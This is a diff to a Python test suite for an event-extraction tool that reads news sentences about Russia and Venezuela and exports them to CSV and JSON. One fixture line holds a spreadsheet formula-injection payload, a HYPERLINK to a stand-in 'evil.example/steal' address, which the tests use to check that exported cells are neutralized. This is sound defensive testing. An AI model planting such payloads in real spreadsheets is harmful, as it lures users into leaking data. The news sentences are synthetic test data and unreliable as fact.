@@ -10,6 +10,7 @@ killed while writing leaves the last store whole.
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 import json
 import os
@@ -55,7 +56,7 @@ IMPOSSIBLE = (
     "Russian military advisers arrived in Caracas on Nov. 1, 2025, the embassy said.\n"
 )
 FORMULAS = (
-    '=HYPERLINK("http://evil.example/steal","Click here") Russia delivered missiles to Venezuela on Oct. 30, 2025.\n'
+    '=HYPERLINK("http://evil.example/steal";"Click here") Russia delivered missiles to Venezuela on Oct. 30, 2025.\n'
     "+1 Russia shipped radar systems to Venezuela on Nov. 2, 2025, officials said.\n"
     "-Russia deployed two warships to the Caribbean on Nov. 4, 2025, the navy said.\n"
     "@Maduro signed a defence agreement with Moscow on Nov. 5, 2025, state media reported.\n"
@@ -143,12 +144,27 @@ def test_the_good_documents_are_read_and_the_latin1_text_survives(built):
     assert "\ufffd" not in quotes and "Ã" not in quotes
 
 
+VALID = {  # a sentence of each good document -> the date it states
+    "Nicolás Maduro met the Russian envoy": "2025-10-28",
+    "Russia delivered air-defence systems": "2025-10-31",
+    "Tu-160 strategic bombers landed": "2025-12-10",
+    "Russian military advisers arrived": "2025-11-01",
+    "Russia shipped radar systems": "2025-11-02",
+    "Russia delivered missiles to Venezuela": "2025-10-30",
+}
+
+
 def test_valid_events_are_kept(built):
     _, out, _ = built
-    events = store.read(out).events
-    dates = set(events["date_start"])
-    for day in ("2025-10-28", "2025-10-31", "2025-12-10", "2025-11-01", "2025-10-30", "2025-11-02"):
-        assert day in dates, (day, sorted(dates))
+    st = store.read(out)
+    for words, day in VALID.items():
+        rows = st.mentions[st.mentions["quote"].str.contains(words, regex=False)]
+        assert day in set(rows["date_start"]), (words, rows.to_dict("records"))
+        assert set(rows["event_id"]) <= set(st.events["event_id"])
+    assert len(st.events) >= 5
+    for col in ("date_start", "date_end"):
+        for value in st.events[col]:
+            assert value == "" or dt.date.fromisoformat(value)
 
 
 def test_impossible_dates_never_become_real_dates(built):
@@ -183,12 +199,13 @@ def test_csv_export_has_no_formula_like_cell(built, tmp_path):
     cells = [cell for row in rows for cell in row]
     bad = [c for c in cells if c.startswith(FORMULA_LEADS)]
     assert not bad
-    assert any(c.startswith("'=HYPERLINK(") for c in cells)  # the formula sentence is there, neutralized
-    assert any(c.startswith("'+1 Russia") for c in cells) and any(c.startswith("'@Maduro") for c in cells)
-    # The store's own CSV tables are guarded too.
+    assert [c for c in cells if c.startswith("'") and c[1:2] in "=+-@"]  # formula-like text was there, neutralized
+    # The store's own CSV tables are guarded too (the manifest gave a formula as a title, and an outlet).
     for f in store.read(out).path.glob("*.csv"):
         for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8"))):
             assert not [c for c in row if c.startswith(FORMULA_LEADS)], (f.name, row)
+    documents_csv = (store.read(out).path / "documents.csv").read_text(encoding="utf-8")
+    assert "'=HYPERLINK(" in documents_csv and ",'@evil," in documents_csv
 
 
 def test_json_export_is_valid(built, tmp_path):
@@ -197,7 +214,9 @@ def test_json_export_is_valid(built, tmp_path):
     proc = run_cli("export", "--store", str(out), "--format", "json", "--out", str(target))
     assert proc.returncode == 0, proc.stderr
     doc = json.loads(target.read_text(encoding="utf-8"))
-    assert any(e["title"].startswith("=HYPERLINK(") for e in doc["events"])  # JSON keeps text as it is
+    assert len(doc["events"]) == len(store.read(out).events)
+    texts = [e["description"] for e in doc["events"]]
+    assert not [t for t in texts if t.startswith("'")]  # JSON keeps text as it is: no spreadsheet guard
 
 
 def test_strict_exits_2_when_files_were_skipped(built, tmp_path):
@@ -257,6 +276,7 @@ HANGING_BUILD = textwrap.dedent("""
         open(os.environ["READY_FILE"], "w").close()
         time.sleep(600)
     pd.DataFrame.to_parquet = hang
+    sys.path.insert(0, os.getcwd())  # run from the repository, as python -m events is
     sys.argv = ["events", *sys.argv[1:]]
     runpy.run_module("events", run_name="__main__")
 """)
